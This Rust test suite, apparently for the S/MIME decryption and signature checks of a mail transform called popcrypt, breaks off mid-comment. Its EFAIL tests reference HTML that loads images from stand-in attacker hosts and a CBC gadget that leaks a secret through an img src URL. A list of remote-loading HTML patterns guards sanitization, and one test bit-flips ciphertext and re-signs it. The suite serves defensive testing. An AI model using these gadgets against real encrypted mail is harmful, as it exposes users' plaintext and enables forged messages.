//! Golden-file tests for S/MIME through the whole message transform.
//!
//! Every `tests/golden/smime/cases/<name>.eml` was made with the OpenSSL
//! command line tool (`tests/golden/smime/regenerate.sh`) from the committed
//! DEMO-ONLY keys. Each goes through the transform with CRLF line ends (what
//! the POP3 relay always hands over), with the keys directory
//! `tests/golden/smime/keys`, and must give exactly `<name>.out` (the whole
//! output) and `<name>.report` (two lines: the `X-Popcrypt-Encryption` and
//! `X-Popcrypt-Signature` values).
//!
//! `UPDATE_GOLDEN=1 cargo test --test golden_smime` rewrites the .out and
//! .report files instead of comparing them; review the diff before
//! committing. The hand-written expectations ([`expected`]) and content
//! checks ([`content_checks`]) run in both modes, so wrong behaviour cannot
//! be blessed silently; the files of the cases in [`HAND_WRITTEN`] (known
//! transform bugs) are never overwritten.
//!
//! The fixtures' Date header is their generation time, which is also the
//! signingTime OpenSSL put into every signature: the transform compares the
//! two (within an hour), so signatures stay good however old the fixtures
//! get. Messages built at run time (below) are dated "now" for the same
//! reason. `tests/smime_api.rs` covers the CMS layer on its own.

mod support;

use std::path::PathBuf;
use std::time::{SystemTime, UNIX_EPOCH};

use mail_parser::{MessageParser, MimeHeaders, PartType};
use openssl::cms::{CMSOptions, CmsContentInfo};
use openssl::pkey::PKey;
use openssl::stack::Stack;
use openssl::symm::Cipher;
use openssl::x509::X509;

use popcrypt::keys::{Keyring, PassphraseSource};
use popcrypt::message::defuse::Change;
use popcrypt::message::verdict::{
    Algorithm, Decryption, Details, Encryption, Failure, OuterSignature, Scheme, Signature,
    Verdict, Word,
};
use popcrypt::message::{annotate_message, mime, smime, Report, Transformer};

use support::golden::{
    body, case_names, crlf, header_values, is, read, repo, starts, Check, HandWritten, Suite, Want,
};
use support::verdicts::{enc_kind, EncKind};

const MAX_PLAINTEXT: usize = 64 << 20;

fn golden() -> PathBuf {
    repo().join("tests/golden/smime")
}

fn transformer() -> Transformer {
    let keys = Keyring::load(&golden().join("keys"), &PassphraseSource::default())
        .expect("golden S/MIME keys directory");
    Transformer::with_keys(keys, MAX_PLAINTEXT)
}

fn case_input(name: &str) -> Vec<u8> {
    crlf(&read(golden().join("cases").join(format!("{name}.eml"))))
}

const ALICE_GOOD: &str = "smime; good; signer=alice@popcrypt.invalid";

/// [`ALICE_GOOD`] as the typed verdict.
fn alice_good() -> Signature {
    Signature::of(Verdict::Good {
        scheme: Scheme::Smime,
        signer: "alice@popcrypt.invalid".into(),
    })
}

/// An S/MIME decryption with the (not legacy) algorithm `alg`, nothing
/// inside, and these findings.
fn smime_decrypted(alg: &str, no_integrity: bool, html: Option<Change>) -> Encryption {
    Encryption::Decrypted {
        decryption: Decryption {
            scheme: Scheme::Smime,
            algorithm: Some(Algorithm {
                name: alg.into(),
                legacy: false,
            }),
        },
        details: Details {
            no_integrity,
            html,
            ..Details::default()
        },
    }
}

/// Decrypted by S/MIME with the algorithm `alg` (legacy or not), whatever
/// the details.
fn decrypted_with(e: &Encryption, alg: &str) -> bool {
    matches!(e, Encryption::Decrypted {
        decryption: Decryption {
            scheme: Scheme::Smime,
            algorithm: Some(a),
        },
        ..
    } if a.name == alg)
}
const ISSUING_CA: &str = "CN=popcrypt DEMO ONLY S-MIME Issuing CA, O=popcrypt DEMO ONLY";

/// What a demanding user expects for each case, written by hand.
///
/// EnvelopedData (CBC) has no integrity protection: `integrity=none`
/// unless a good signature *inside* the encryption covers the plaintext.
/// A signature over the ciphertext (encrypt-then-sign) does not: whoever
/// signs a ciphertext need not be who encrypted it, and CBC ciphertext can
/// be modified without the key (EFAIL); Thunderbird ignores such outer
/// signatures for the same reason (bug 1806161).
fn expected(name: &str) -> Option<(Want, Want)> {
    let none = || is("none");
    let cbc = |alg: &str| {
        is(&format!(
            "smime; decrypted; algorithm={alg}; integrity=none"
        ))
    };
    // AuthEnvelopedData, or CBC with a good signature inside.
    let dec = |alg: &str| is(&format!("smime; decrypted; algorithm={alg}"));
    let good = || is(ALICE_GOOD);
    let sanitized = |alg: &str| {
        is(&format!(
            "smime; decrypted; algorithm={alg}; integrity=none; html=sanitized"
        ))
    };
    Some(match name {
        "enveloped-aes128-cbc" | "enveloped-aes128-cbc-lf" | "enveloped-x-pkcs7-mime" => {
            (cbc("aes-128-cbc"), none())
        }
        "enveloped-aes256-cbc"
        | "enveloped-rsa-oaep"
        | "enveloped-rsa4096"
        | "enveloped-p256-ecdh"
        | "enveloped-ski-rid"
        | "enveloped-two-recipients"
        | "enveloped-binary" => (cbc("aes-256-cbc"), none()),
        "enveloped-3des" => (
            is("smime; decrypted; algorithm=des-ede3-cbc (legacy); integrity=none"),
            none(),
        ),
        "enveloped-aes256-gcm" => (dec("aes-256-gcm"), none()),
        "enveloped-p256-ecdh-gcm" => (dec("aes-128-gcm"), none()),
        "enveloped-aes256-gcm-tampered" => (
            starts(
                "smime; failed (corrupt or tampered S/MIME data: authentication failed (aes-256-gcm)",
            ),
            none(),
        ),
        "enveloped-corrupt-der" => (
            starts("smime; failed (corrupt or tampered S/MIME data: "),
            none(),
        ),
        // regenerate.sh issues bob's certificate with serial 0x1005.
        "enveloped-other-recipient" => (
            is(&format!(
                "smime; failed (not encrypted to any of our S/MIME certificates; recipients: \
                 issuer={ISSUING_CA}, serial=1005)"
            )),
            none(),
        ),
        "signed-detached" | "signed-detached-lf" => (none(), good()),
        // Opaque SignedData: the content is unwrapped for the client.
        "signed-opaque" => (is("none; signed-data unwrapped"), good()),
        "signed-detached-from-mismatch" => (
            none(),
            is("smime; from-mismatch; signer=alice@popcrypt.invalid; \
                signer-emails=alice@popcrypt.invalid; from=bob@popcrypt.invalid"),
        ),
        "signed-detached-tampered" => (none(), starts("smime; bad (the signature does not verify")),
        "signed-opaque-tampered" => (
            is("none; signed-data unwrapped"),
            starts("smime; bad (the signature does not verify"),
        ),
        "signed-detached-untrusted" => (
            none(),
            Want::StartsEnds(
                "smime; unknown-signer; signer=subject=CN=mallory (DEMO ONLY), \
                 emailAddress=mallory@popcrypt.invalid"
                    .into(),
                "issuer=CN=Mallory's Untrusted CA (DEMO ONLY), O=Mallory".into(),
            ),
        ),
        "signed-detached-no-chain" => (
            none(),
            Want::StartsEnds(
                "smime; unknown-signer; signer=subject=CN=alice (DEMO ONLY), \
                 emailAddress=alice@popcrypt.invalid"
                    .into(),
                format!("issuer={ISSUING_CA}"),
            ),
        ),
        "signed-detached-expired" => (
            none(),
            starts("smime; rejected (policy: the signer certificate had expired at the signing time "),
        ),
        // The good signature inside covers the plaintext: no integrity=none.
        "sign-then-encrypt" => (dec("aes-256-cbc"), good()),
        "sign-opaque-then-encrypt" => (
            is("smime; decrypted; algorithm=aes-256-gcm; signed-data unwrapped"),
            good(),
        ),
        // Alice's signature covers the ciphertext only (see above): it is
        // reported as `outer=`, and the plaintext has no signature.
        "encrypt-then-sign" => (
            cbc("aes-256-cbc"),
            is("none; outer=good; outer-signer=alice@popcrypt.invalid"),
        ),
        // EFAIL: HTML decrypted without integrity and without a good
        // signature inside is sanitized (README: "HTML without integrity").
        "cbc-html-remote" | "efail-cbc-gadget-html" => (sanitized("aes-256-cbc"), none()),
        "cbc-alternative-html" => (sanitized("aes-128-cbc"), none()),
        // The IV gadget garbled the Content-Type field: text/plain, nothing
        // to sanitize.
        "efail-cbc-garbled-header" => (cbc("aes-256-cbc"), none()),
        // Vouched for by a good signature inside, or authenticated: as sent.
        "cbc-html-signed-inside" => (dec("aes-256-cbc"), good()),
        "gcm-html-remote" => (dec("aes-256-gcm"), none()),
        // Alice's genuine signature over one part of Mallory's
        // multipart/mixed (signature wrapping): partial, never good.
        "mixed-with-signed-part-alice" => (
            none(),
            Want::AnyOf(vec![is("none"), starts("smime; partial")]),
        ),
        _ => return None,
    })
}

/// The plaintext entity regenerate.sh encrypts or signs for a case.
fn entity_body(name: &str) -> Vec<u8> {
    crlf(
        format!(
            "Hello Demo,\n\nthis is the popcrypt S/MIME test message \"{name}\".\n\
             It is DEMO ONLY test data.\n\n-- \nAlice\n"
        )
        .as_bytes(),
    )
}

const ENTITY_HEADERS: &str =
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 7bit\r\n";

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// Lines that look like a base64 CMS blob (a DER SEQUENCE starts `MI`).
fn cms_blob_lines(msg: &[u8]) -> usize {
    msg.split(|&b| b == b'\n')
        .map(|l| l.strip_suffix(b"\r").unwrap_or(l))
        .filter(|l| {
            l.len() >= 60
                && l.starts_with(b"MI")
                && l.iter()
                    .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='))
        })
        .count()
}

/// The media types of every MIME part of a message.
fn part_types(msg: &[u8]) -> Vec<String> {
    MessageParser::default()
        .parse(msg)
        .map(|m| m.parts.iter().map(mime::mime_type).collect())
        .unwrap_or_default()
}

/// The expected output of a case that is decrypted or unwrapped into the
/// demo text entity: status headers, the outer fields minus Content-*,
/// the entity's Content-* fields, the plaintext body.
fn delivered_text(input: &[u8], report: &Report, body: &[u8]) -> Vec<u8> {
    let mut want = report.header_lines();
    for f in mime::fields(&input[..mime::header_end(input)]) {
        if !f.name.starts_with("content-") {
            want.extend_from_slice(f.raw);
        }
    }
    want.extend_from_slice(ENTITY_HEADERS.as_bytes());
    want.extend_from_slice(b"\r\n");
    want.extend_from_slice(body);
    want
}

/// Checks on the content of a case's output that do not depend on the
/// golden files (beyond the status header checks every suite makes): each
/// `check(ok, what)` with `ok` false is a problem.
fn content_checks(check: &mut Check, name: &str, input: &[u8], out: &[u8], report: &Report) {
    let decrypted = enc_kind(&report.encryption) == EncKind::Decrypted(Scheme::Smime);
    let unwrapped = name.starts_with("signed-opaque");
    let mut original = report.header_lines();
    original.extend_from_slice(input);
    if !decrypted && !unwrapped {
        // Failed decryption, detached signatures of every verdict: the
        // original bytes behind the two status lines, nothing else.
        check(
            out == original.as_slice(),
            "status header lines + the original bytes exactly",
        );
        check(
            out == annotate_message(input, report).as_slice(),
            "what annotate_message gives",
        );
    } else {
        check(
            part_types(out).iter().all(|t| !t.contains("pkcs7-mime")),
            "no application/pkcs7-mime entity left",
        );
        check(
            header_values(out, "content-type").len()
                == usize::from(name != "efail-cbc-garbled-header"),
            "exactly one Content-Type field (none where the gadget garbled it)",
        );
        check(
            header_values(out, "content-transfer-encoding").len() <= 1,
            "at most one Content-Transfer-Encoding field",
        );
        for f in [
            "from",
            "to",
            "subject",
            "date",
            "message-id",
            "mime-version",
        ] {
            check(
                header_values(out, f) == header_values(input, f),
                &format!("the outer {f} field is kept"),
            );
        }
        check(
            header_values(out, "content-disposition").is_empty(),
            "the outer Content-Disposition (smime.p7m) is gone",
        );
    }
    // The -lf cases are copies of the CRLF ones with LF line ends.
    let marker = name.strip_suffix("-lf").unwrap_or(name);
    match name {
        "sign-then-encrypt" => {
            // The signed entity (multipart/signed) is delivered with its
            // signature part: a client that knows S/MIME can verify it too.
            let ctype = header_values(out, "content-type")
                .first()
                .cloned()
                .unwrap_or_default();
            check(
                ctype.starts_with("multipart/signed;")
                    && ctype.contains("protocol=\"application/pkcs7-signature\""),
                "the inner multipart/signed becomes the message",
            );
            check(
                contains(body(out), &entity_body(marker)),
                "the signed text is delivered",
            );
            check(
                contains(body(out), b"Content-Type: application/pkcs7-signature"),
                "the signature part is delivered",
            );
            check(
                cms_blob_lines(out) > 0,
                "the detached signature (the only CMS left) is delivered",
            );
        }
        _ if name.contains("html") || name.starts_with("efail-") => {
            html_checks(check, name, input, out)
        }
        _ if decrypted || unwrapped => {
            let mut text = entity_body(marker);
            if name == "signed-opaque-tampered" {
                // regenerate.sh changed one word inside the signed content.
                text = String::from_utf8(text)
                    .unwrap()
                    .replace("test data.", "test DATA.")
                    .into_bytes();
            }
            let want = delivered_text(input, report, &text);
            check(
                out == want.as_slice(),
                "the exact decrypted/unwrapped message",
            );
            check(cms_blob_lines(out) == 0, "no base64 CMS blob remains");
        }
        _ => {}
    }
    if name == "signed-opaque-tampered" {
        check(
            contains(out, b"It is DEMO ONLY test DATA."),
            "the tampered content is what is shown (with the bad verdict)",
        );
    }
}

/// What can load something when a client renders it: none of this may
/// remain in HTML delivered with `html=sanitized`.
const REMOTE: &[&str] = &[
    "src",
    "href",
    "url(",
    "http",
    "//",
    "<img",
    "<link",
    "<meta",
    "<base",
    "<style",
    "style=",
    "background",
    "action",
    "poster",
    "<iframe",
    "<form",
    "<input",
    "<video",
    "<source",
    "<svg",
    "attacker",
    "a.test",
];

/// The parts of a message: (media type, decoded text, Content-Disposition).
fn parts(msg: &[u8]) -> Vec<(String, String, String)> {
    let m = MessageParser::default().parse(msg).expect("parses");
    m.parts
        .iter()
        .map(|p| {
            let disposition = p
                .content_disposition()
                .map(|d| {
                    let file = d.attribute("filename").unwrap_or("");
                    format!("{}; filename={file}", d.ctype())
                })
                .unwrap_or_default();
            (
                mime::mime_type(p),
                p.text_contents().unwrap_or("").to_string(),
                disposition,
            )
        })
        .collect()
}

/// The EFAIL cases: HTML decrypted without integrity (sanitized) or with
/// it (as sent).
fn html_checks(check: &mut Check, name: &str, input: &[u8], out: &[u8]) {
    let ps = parts(out);
    let html: Vec<&String> = ps
        .iter()
        .filter(|(t, ..)| t == "text/html")
        .map(|(_, text, _)| text)
        .collect();
    let sanitized = !matches!(
        name,
        "cbc-html-signed-inside" | "gcm-html-remote" | "efail-cbc-garbled-header"
    );
    if sanitized {
        check(!html.is_empty(), "an HTML part is delivered");
        for h in &html {
            for r in REMOTE {
                check(
                    !h.to_ascii_lowercase().contains(r),
                    &format!("no {r:?} in the sanitized HTML"),
                );
            }
        }
        check(
            ps.iter()
                .all(|(t, ..)| !t.contains("svg") && !t.contains("xml")),
            "no SVG or XML part left to render",
        );
    }
    match name {
        "cbc-html-remote" => {
            let h = html.first().map_or("", |s| s.as_str());
            for kept in [
                "Hello Demo,",
                "It is DEMO ONLY test data.",
                "a link",
                "Alice",
            ] {
                check(h.contains(kept), &format!("the text {kept:?} is kept"));
            }
        }
        "cbc-alternative-html" => {
            check(
                ps.iter().any(|(t, text, _)| {
                    t == "text/plain"
                        && text.contains(
                            "plain text keeps <img src=\"http://plain.attacker.invalid/\"> as text.",
                        )
                }),
                "the text/plain alternative is delivered as it was",
            );
            let h = html.first().map_or("", |s| s.as_str());
            check(
                h.contains("Grüße, Demo!") && h.contains("Café DEMO ONLY test data."),
                "the Latin-1 HTML text is kept",
            );
            check(
                contains(out, b"Content-Type: text/html; charset=\"iso-8859-1\"\r\n")
                    && contains(out, b"Content-Transfer-Encoding: quoted-printable\r\n"),
                "the HTML part keeps its charset and transfer encoding",
            );
            check(
                ps.iter().any(|(t, text, d)| {
                    t == "application/octet-stream"
                        && d == "attachment; filename=logo.svg"
                        && text.contains("<svg")
                }),
                "the SVG is a non-inline octet-stream attachment, its bytes kept",
            );
        }
        "efail-cbc-gadget-html" => {
            // The case is a working gadget: decrypted as the client would
            // have got it before, the secret is the image URL.
            let ring = Keyring::load(&golden().join("keys"), &PassphraseSource::default()).unwrap();
            let d = smime::decrypt(&ring.smime, &case_der(name), MAX_PLAINTEXT).unwrap();
            let pt = &d.content;
            let at = |n: &[u8]| pt.windows(n.len()).position(|w| w == n);
            let (img, src, secret) = (
                at(b"<img ignore=\""),
                at(b"\" src=\"//a.test/"),
                at(b"THE SECRET: the vault code is 4711-0815"),
            );
            check(
                matches!((img, src, secret), (Some(a), Some(b), Some(c)) if a < b && b < c)
                    && !pt[src.unwrap_or(0) + 9..secret.unwrap_or(0)].contains(&b'"'),
                "the gadget puts <img ... src=\"//a.test/ before the secret",
            );
            let h = html.first().map_or("", |s| s.as_str());
            // The secret was inside the src value: it goes with it.
            check(
                h.contains("Dear Demo,") && h.contains("-- Alice"),
                "the text around the gadget is kept",
            );
        }
        "efail-cbc-garbled-header" => {
            check(
                contains(out, b"\r\nContent-Tyqe: text/html; charset=utf-8\r\n")
                    && header_values(out, "content-type").is_empty(),
                "the garbled field is no Content-Type: the client shows text/plain",
            );
            check(
                ps.iter().all(|(t, ..)| t == "text/plain"),
                "nothing but text/plain",
            );
        }
        "cbc-html-signed-inside" => check(
            contains(out, b"<img src=\"http://img.attacker.invalid/pixel.gif\"")
                && contains(out, b"Content-Type: application/pkcs7-signature"),
            "a good signature inside vouches for the HTML: delivered as signed",
        ),
        "gcm-html-remote" => check(
            body(out).starts_with(b"<html><head><base href=\"http://base.attacker.invalid/\">")
                && contains(out, b"<img src=\"http://img.attacker.invalid/pixel.gif\""),
            "authenticated HTML is delivered as sent",
        ),
        _ => check(false, "an HTML case without checks"),
    }
    let _ = input;
}

/// Cases whose `.out` and `.report` are written by hand because the
/// transform got them wrong; `UPDATE_GOLDEN=1` never overwrites them.
/// (Empty: `encrypt-then-sign` was here until `integrity=none` survived an
/// outer signature over the ciphertext.)
const HAND_WRITTEN: &[&str] = &[];

#[test]
fn golden_cases() {
    Suite::new("smime", 34, HandWritten::OutAndReport(HAND_WRITTEN))
        .print_reports()
        .run(&transformer(), expected, content_checks);
}

// --- PKCS#12 --------------------------------------------------------------------

fn pkcs12_dir() -> PathBuf {
    golden().join("keys/pkcs12")
}

/// A keys directory holding only `p12` (as `smime/<p12>`) and the trust
/// anchor.
fn p12_keys_dir(p12: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("smime")).unwrap();
    std::fs::create_dir(dir.path().join("trust")).unwrap();
    std::fs::copy(pkcs12_dir().join(p12), dir.path().join("smime").join(p12)).unwrap();
    std::fs::copy(
        golden().join("keys/trust/demo-root-ca.pem"),
        dir.path().join("trust/demo-root-ca.pem"),
    )
    .unwrap();
    dir
}

fn passphrase_file() -> PassphraseSource {
    PassphraseSource {
        file: Some(pkcs12_dir().join("demo.p12.passphrase")),
        env: None,
    }
}

/// `keys/pkcs12/` is not read by the loader (a subdirectory of the keys
/// dir); a keys directory with `smime/demo.p12` and the passphrase file
/// decrypts and verifies exactly as the PEM keys do.
#[test]
fn pkcs12_keys_directory_decrypts() {
    for p12 in ["demo.p12", "demo-legacy.p12"] {
        let dir = p12_keys_dir(p12);
        let ring =
            Keyring::load(dir.path(), &passphrase_file()).unwrap_or_else(|e| panic!("{p12}: {e}"));
        assert_eq!(
            ring.summary()[1],
            "S/MIME: 1 identity (demo@popcrypt.invalid), 1 trust anchor",
            "{p12}"
        );
        let t = Transformer::with_keys(ring, MAX_PLAINTEXT);
        // The RSA-2048 identity is in the file: these give the golden output.
        for name in [
            "enveloped-aes256-gcm",
            "enveloped-aes128-cbc",
            "sign-then-encrypt",
            "signed-detached",
        ] {
            let (out, report) = t.transform(&case_input(name));
            let want = read(golden().join("cases").join(format!("{name}.out")));
            assert!(
                out == want,
                "{p12}: {name}: output differs from the golden file ({report:?})"
            );
        }
        // The P-256 identity is not in the file.
        let (out, report) = t.transform(&case_input("enveloped-p256-ecdh"));
        assert!(
            matches!(&report.encryption, Encryption::Failed {
                scheme: Some(Scheme::Smime),
                reason: Failure::Library(r),
            } if r.starts_with(
                "not encrypted to any of our S/MIME certificates; recipients: "
            ) && r.ends_with("serial=1003")),
            "{p12}: {report:?}"
        );
        assert!(out == annotate_message(&case_input("enveloped-p256-ecdh"), &report));
    }
}

#[test]
fn pkcs12_wrong_or_missing_passphrase_is_a_clear_error() {
    let dir = p12_keys_dir("demo.p12");
    let p12_path = dir.path().join("smime/demo.p12");
    let wrong = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(wrong.path(), "not the passphrase\n").unwrap();
    let err = Keyring::load(
        dir.path(),
        &PassphraseSource {
            file: Some(wrong.path().to_owned()),
            env: None,
        },
    )
    .expect_err("a wrong passphrase must fail the start-up");
    let msg = err.to_string();
    assert!(
        msg.contains(&p12_path.display().to_string()) && msg.contains("wrong passphrase"),
        "{msg}"
    );
    assert!(
        !msg.contains("not the passphrase"),
        "the secret leaks: {msg}"
    );

    let err = Keyring::load(dir.path(), &PassphraseSource::default())
        .expect_err("a protected PKCS#12 without a passphrase must fail the start-up");
    let msg = err.to_string();
    assert!(
        msg.contains(&p12_path.display().to_string()) && msg.contains("no passphrase"),
        "{msg}"
    );

    // The environment variable source works as well.
    let var = "POPCRYPT_GOLDEN_SMIME_P12_PASSPHRASE";
    let pass = std::fs::read_to_string(pkcs12_dir().join("demo.p12.passphrase")).unwrap();
    std::env::set_var(var, pass.lines().next().unwrap());
    let ring = Keyring::load(
        dir.path(),
        &PassphraseSource {
            file: None,
            env: Some(var.into()),
        },
    )
    .expect("passphrase from the environment");
    assert!(ring.smime.has_identities());
}

// --- messages built at run time ---------------------------------------------------

fn now() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

/// RFC 5322 date-time in UTC.
fn rfc5322(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    // Civil date from days since 1970-01-01 (H. Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    let weekday = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"][days.rem_euclid(7) as usize];
    let mon = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ][(month - 1) as usize];
    format!(
        "{weekday}, {day:02} {mon} {year} {:02}:{:02}:{:02} +0000",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

#[test]
fn rfc5322_dates() {
    assert_eq!(rfc5322(0), "Thu, 01 Jan 1970 00:00:00 +0000");
    assert_eq!(rfc5322(1_795_698_968), "Thu, 26 Nov 2026 13:16:08 +0000");
    assert_eq!(rfc5322(951_782_400), "Tue, 29 Feb 2000 00:00:00 +0000");
}

/// Base64 in 64-character lines, each ended by `eol`.
fn base64_lines(der: &[u8], eol: &str) -> String {
    let b64 = openssl::base64::encode_block(der);
    let mut out = String::new();
    for chunk in b64.as_bytes().chunks(64) {
        out.push_str(std::str::from_utf8(chunk).unwrap());
        out.push_str(eol);
    }
    out
}

struct Signer {
    cert: X509,
    key: PKey<openssl::pkey::Private>,
    chain: Stack<X509>,
}

/// A correspondent from keys-private (certificate + key in one PEM), with
/// its CA certificate to carry in signatures.
fn signer(who: &str) -> Signer {
    let pem = read(golden().join("keys-private").join(format!("{who}.pem")));
    let ca = if who == "mallory" {
        "mallory-ca.pem"
    } else {
        "issuing-ca.pem"
    };
    let mut chain = Stack::new().unwrap();
    chain
        .push(X509::from_pem(&read(golden().join("keys-private").join(ca))).unwrap())
        .unwrap();
    Signer {
        cert: X509::from_pem(&pem).unwrap(),
        key: PKey::private_key_from_pem(&pem).unwrap(),
        chain,
    }
}

/// A detached CMS signature (DER, signingTime now) over the exact bytes.
fn sign_detached(s: &Signer, data: &[u8]) -> Vec<u8> {
    CmsContentInfo::sign(
        Some(&s.cert),
        Some(&s.key),
        Some(&s.chain),
        Some(data),
        CMSOptions::DETACHED | CMSOptions::BINARY,
    )
    .unwrap()
    .to_der()
    .unwrap()
}

/// The demo user's RSA certificate (the recipient).
fn demo_cert() -> X509 {
    X509::from_pem(&read(golden().join("keys/smime/demo.pem"))).unwrap()
}

fn outer_headers(from: &str, subject: &str, date: i64) -> String {
    format!(
        "From: {from}\r\nTo: Demo User <demo@popcrypt.invalid>\r\nSubject: {subject}\r\n\
         Date: {}\r\nMessage-ID: <runtime@popcrypt.invalid>\r\nMIME-Version: 1.0\r\n",
        rfc5322(date)
    )
}

/// A multipart/signed message: `signed_part` (CRLF, without the line end
/// before the boundary) and a detached signature over it.
fn multipart_signed(headers: &str, signed_part: &[u8], sig: &[u8]) -> Vec<u8> {
    let mut m = headers.as_bytes().to_vec();
    m.extend_from_slice(
        b"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; \
          micalg=sha-256; boundary=\"sig-b\"\r\n\r\nThis is an S/MIME signed message\r\n\r\n--sig-b\r\n",
    );
    m.extend_from_slice(signed_part);
    m.extend_from_slice(
        b"\r\n--sig-b\r\nContent-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\n\
          Content-Transfer-Encoding: base64\r\n\r\n",
    );
    m.extend_from_slice(base64_lines(sig, "\r\n").as_bytes());
    m.extend_from_slice(b"\r\n--sig-b--\r\n");
    m
}

/// The DER of a case's root application/pkcs7-mime part.
fn case_der(name: &str) -> Vec<u8> {
    let raw = case_input(name);
    let msg = MessageParser::default().parse(&raw).unwrap();
    msg.parts[0].contents().to_vec()
}

/// Encrypt-then-sign by someone who did not encrypt: Bob (a certificate
/// from the same trusted CA as Alice's) takes the CBC ciphertext Alice sent
/// to the demo user, flips one bit of it (CBC is malleable without the
/// key), and signs the result with his own certificate under his own From.
/// The transform decrypts the modified plaintext; the signature is good
/// (it is Bob's, over the bytes Bob sent), but it says nothing about the
/// plaintext, which Bob never saw: `integrity=none` must stay.
///
/// Fails today: `Transformer::deliver` (src/message/mod.rs) sets
/// `no_integrity = !auth` in the encrypt-then-sign branch and then drops
/// the flag because `signature.contains("; good;")`, although that
/// signature is the outer one over the ciphertext.
#[test]
fn encrypt_then_sign_by_someone_else_keeps_integrity_none() {
    let mut der = case_der("enveloped-aes256-cbc");
    // DER EnvelopedData without unprotectedAttrs ends with the ciphertext:
    // flip a bit in the fourth block from the end. That block's plaintext
    // is garbled and one bit of the next block's plaintext flips; the
    // padding in the last block stays valid.
    let at = der.len() - 64 + 3;
    der[at] ^= 0x20;
    let ring = Keyring::load(&golden().join("keys"), &PassphraseSource::default()).unwrap();
    let d = smime::decrypt(&ring.smime, &der, MAX_PLAINTEXT).expect("still decrypts");
    let original = entity_body("enveloped-aes256-cbc");
    assert!(
        d.content.starts_with(ENTITY_HEADERS.as_bytes()) && !contains(&d.content, &original),
        "the malleated ciphertext decrypts to a modified text: {:?}",
        String::from_utf8_lossy(&d.content)
    );

    let mut part = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; \
                     name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    part.extend_from_slice(base64_lines(&der, "\r\n").as_bytes());
    let part = &part[..part.len() - 2];
    let sig = sign_detached(&signer("bob"), part);
    let msg = multipart_signed(
        &outer_headers(
            "Bob Demo <bob@popcrypt.invalid>",
            "re-signed ciphertext",
            now(),
        ),
        part,
        &sig,
    );
    let (out, report) = transformer().transform(&msg);
    // Bob signed Alice's ciphertext: his valid signature never makes her
    // words his (a decryption oracle, "Re: What's up Johnny"), nor good.
    assert_eq!(
        report.signature,
        Signature {
            verdict: Verdict::None,
            outer: Some(OuterSignature {
                word: Word::Good,
                signer: Some("bob@popcrypt.invalid".into()),
            }),
        }
    );
    assert!(
        decrypted_with(&report.encryption, "aes-256-cbc"),
        "{report:?}"
    );
    assert!(
        contains(&out, &d.content[ENTITY_HEADERS.len() + 2..]),
        "the modified plaintext is delivered"
    );
    assert_eq!(
        report.encryption,
        smime_decrypted("aes-256-cbc", true, None),
        "a signature over the ciphertext does not protect the plaintext"
    );
}

/// Encrypt-then-sign with an *opaque* signature (the ciphertext entity is
/// the signed content): the transform unwraps the signature and decrypts
/// what is inside, so the Encryption header must say so, and, as the
/// content is CBC and the signer is not even known, carry
/// `integrity=none`.
///
/// Fails today: `Transformer::smime_mime` (src/message/mod.rs, the
/// `"signed-data"` arm) hands `deliver` the encryption report
/// `"none; signed-data unwrapped"`, but `deliver` recognises an
/// encrypt-then-sign decryption found by `inner_layers` only when the
/// report is exactly `"none"` (`if encryption == "none"`). So the header
/// reads `none; signed-data unwrapped; inner smime decrypted (aes-256-cbc)`
/// (first token `none` although the plaintext was decrypted) and
/// `no_integrity` is never set: `integrity=none` is lost whatever the
/// signature verdict. Same in the Thunderbird corpus mails
/// `alice.env.sig.SHA*.opaque.eml`.
#[test]
fn opaque_signed_ciphertext_is_reported_as_decrypted() {
    let der = case_der("enveloped-aes256-cbc");
    let mut entity = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; \
                       name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        .to_vec();
    entity.extend_from_slice(base64_lines(&der, "\r\n").as_bytes());
    let mallory = signer("mallory");
    let signed = CmsContentInfo::sign(
        Some(&mallory.cert),
        Some(&mallory.key),
        Some(&mallory.chain),
        Some(&entity),
        CMSOptions::BINARY,
    )
    .unwrap()
    .to_der()
    .unwrap();
    let mut msg = outer_headers(
        "Mallory <mallory@popcrypt.invalid>",
        "opaque-signed ciphertext",
        now(),
    )
    .into_bytes();
    msg.extend_from_slice(
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=\"smime.p7m\"\r\n\
          Content-Transfer-Encoding: base64\r\n\r\n",
    );
    msg.extend_from_slice(base64_lines(&signed, "\r\n").as_bytes());
    let (out, report) = transformer().transform(&msg);
    assert!(
        report.signature
            == Signature {
                verdict: Verdict::None,
                outer: Some(OuterSignature {
                    word: Word::UnknownSigner,
                    signer: None,
                }),
            },
        "{report:?}"
    );
    assert!(
        contains(&out, &entity_body("enveloped-aes256-cbc")),
        "the ciphertext inside is decrypted"
    );
    assert!(
        decrypted_with(&report.encryption, "aes-256-cbc")
            && matches!(&report.encryption, Encryption::Decrypted { details, .. } if details.no_integrity),
        "Encryption verdict of a decrypted CBC message: {:?}",
        report.encryption
    );
}

/// Sign-then-encrypt where the inner detached signature was made over the
